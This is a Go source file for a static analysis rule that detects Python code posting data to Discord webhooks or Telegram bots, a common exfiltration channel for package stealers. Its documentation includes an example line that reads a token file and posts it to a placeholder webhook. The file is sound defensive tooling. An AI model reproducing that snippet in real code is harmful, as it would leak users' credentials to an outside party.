package supplychain

import (
	"strings"

	"github.com/kraitsec/krait/internal/analysis"
	"github.com/kraitsec/krait/internal/python/ast"
)

// WebhookExfiltration flags requests to Discord webhooks and Telegram bots.
var WebhookExfiltration = &analysis.Rule{
	Code:       "KR819",
	Name:       "webhook-exfiltration",
	Summary:    "data sent to a Discord webhook or a Telegram bot",
	Severity:   analysis.SeverityHigh,
	Confidence: analysis.ConfidenceMedium,
	CWE:        []int{506, 200},
	Kinds:      []ast.Kind{ast.KindCall},
	Callees:    tails([]string{"post", "get", "put", "request", "send", "urlopen", "execute"}, networkCalls),
	Run:        runWebhook,
	Doc: `## What it does
Flags calls that send to a Discord webhook (discord.com/api/webhooks/...,
discordapp.com and the canary and ptb hosts) or to a Telegram bot's
sendMessage, sendDocument, sendPhoto or sendFile method
(api.telegram.org/bot<token>/...): requests, httpx, urllib, aiohttp
sessions, and the discord_webhook and dhooks clients, with the URL given as
a literal, an f-string or a variable. Confidence is high for Discord.

## Why is this bad?
Webhooks are free, anonymous and need no server: stealers in malicious
packages post tokens, cookies, screenshots and files to them. A library has
little reason to hard-code a webhook or a bot token.

## Example
~~~python
import requests
HOOK = "https://discord.com/api/webhooks/1234567890/abcDEF"
requests.post(HOOK, json={"content": open(token_file).read()})
~~~

## Use instead
Take the endpoint and its secret from the user's configuration, and send
only what the user asked to send:
~~~python
requests.post(settings.NOTIFY_URL, json={"content": message}, timeout=10)
~~~

## References
- [Discord developer docs: webhooks](https://discord.com/developers/docs/resources/webhook)
- [Telegram Bot API](https://core.telegram.org/bots/api)
- [CWE-200: Exposure of Sensitive Information](https://cwe.mitre.org/data/definitions/200.html)
`,
}

var discordHooks = []string{
	"discord.com/api/webhooks", "discordapp.com/api/webhooks", "canary.discord.com/api/webhooks",
	"ptb.discord.com/api/webhooks",
}

// sendMethods are the method names of HTTP clients whose receiver krait
// cannot resolve (a session, a client).
var sendMethods = map[string]bool{
	"post": true, "get": true, "put": true, "request": true, "send": true, "urlopen": true, "execute": true,
}

func runWebhook(p *analysis.Pass, n ast.Node) {
	c := n.(*ast.Call)
	m := p.Model
	qn := m.CalleeName(c)
	if !networkCalls[qn] {
		a, ok := c.Func.(*ast.Attribute)
		if !ok || !sendMethods[a.Attr] {
			return
		}
	}
	if qn == "urllib.request.urlopen" && len(c.Args) > 0 {
		if r, ok := bound(m, c.Args[0]).(*ast.Call); ok && m.CalleeName(r) == "urllib.request.Request" {
			return // reported at the Request
		}
	}
	var text strings.Builder
	for _, a := range c.Args {
		text.WriteString(textOf(m, a))
		text.WriteByte(' ')
	}
	for _, k := range c.Keywords {
		if k.Arg == "url" || k.Arg == "webhook_url" {
			text.WriteString(textOf(m, k.Value))
		}
	}
	s := text.String()
	if _, ok := hasAny(s, discordHooks); ok {
		report(p, c, 0, analysis.ConfidenceHigh, "sends data to a Discord webhook")
		return
	}
	if strings.Contains(s, "api.telegram.org/bot") {
		if meth, ok := hasAny(s, []string{"senddocument", "sendmessage", "sendphoto", "sendfile", "sendvideo", "sendaudio"}); ok {
			p.Report(c, "sends data to a Telegram bot ("+meth+")")
		}
	}
}
